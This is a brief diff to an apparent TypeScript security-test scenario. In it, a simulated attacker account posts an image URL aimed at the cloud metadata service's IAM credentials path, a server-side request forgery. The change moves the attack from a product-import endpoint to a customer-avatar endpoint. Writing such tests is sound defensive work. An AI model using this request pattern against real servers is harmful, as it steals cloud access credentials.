@@ -19,7 +19,9 @@ const forgedRequest: Story = async (estate, target) => {
   await mallory.signIn(estate.production.users, 'mallory')
   const fetched = async (path: string): Promise<string> => {
     const image = `http://169.254.169.254/latest/meta-data/iam/security-credentials/${path}`
-    const { preview } = (await mallory.post('/products/import', { image })) as { readonly preview: string }
+    const { preview } = (await mallory.post('/customers/me/avatar', { image })) as {
+      readonly preview: string
+    }
     return preview
   }
   const role = (await fetched('')).trim()
